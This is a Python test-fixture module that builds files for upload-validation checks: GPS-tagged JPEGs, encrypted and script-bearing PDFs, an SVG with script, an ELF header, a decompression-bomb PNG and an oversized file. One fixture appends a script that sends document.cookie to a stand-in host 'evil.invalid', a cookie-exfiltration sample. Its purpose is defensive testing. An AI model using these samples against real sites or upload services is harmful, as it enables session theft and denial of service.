"""Real files made in the tests, good and bad, for the upload checks: nothing is read from disk or mocked."""

import io

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import NameObject

# EXIF tag numbers: GPS IFD pointer, and inside it latitude/longitude with their hemispheres.
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def image_bytes(image_format: str = "JPEG", size=(64, 48), color="seagreen", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, image_format, **save)
    return out.getvalue()


def jpeg_with_gps(size=(64, 48), orientation: int | None = None) -> bytes:
    """A phone photo: EXIF with the place it was taken (31.23 N, 121.47 E) and optionally a rotation."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    if orientation:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (31.0, 13.0, 48.0)
    gps[3], gps[4] = "E", (121.0, 28.0, 12.0)
    return image_bytes("JPEG", size=size, exif=exif.tobytes())


def tiny_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="1234", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_js("app.alert('hello');")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_compressed_javascript() -> bytes:
    """The script hidden in a compressed object stream, where a plain byte search cannot see it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_js("app.alert('hidden');")
    writer._root_object[NameObject("/OpenAction")] = writer._root_object["/Names"]["/JavaScript"]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_polyglot() -> bytes:
    """A valid PNG with a web page appended after its end: opened as HTML, the script would run."""
    return (
        image_bytes("PNG") + b"<html><body><script>document.location='https://evil.invalid/'+document.cookie</script>"
    )


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"


def elf_executable() -> bytes:
    """The start of a Linux executable: what a renamed program looks like to a content check."""
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)


def image_bomb() -> bytes:
    """A 20000 x 20000 PNG: a few hundred KB on disk, 1.2 GB of pixels once decoded."""
    out = io.BytesIO()
    Image.new("1", (20000, 20000), 0).save(out, "PNG")
    return out.getvalue()


def sixteen_megabytes() -> bytes:
    """A PDF-looking file just past the 15 MB limit."""
    return b"%PDF-1.7\n" + bytes(16 * 1024 * 1024)
